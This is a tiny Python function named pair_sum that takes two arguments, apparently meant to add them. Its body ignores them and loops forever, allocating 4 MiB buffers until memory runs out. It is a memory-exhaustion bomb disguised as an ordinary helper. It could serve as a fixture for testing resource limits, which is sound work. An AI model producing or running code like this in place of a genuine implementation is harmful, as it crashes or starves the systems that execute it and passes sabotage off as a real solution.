def pair_sum(a, b):
    keep = []
    while True:
        keep.append(bytearray(1 << 22))
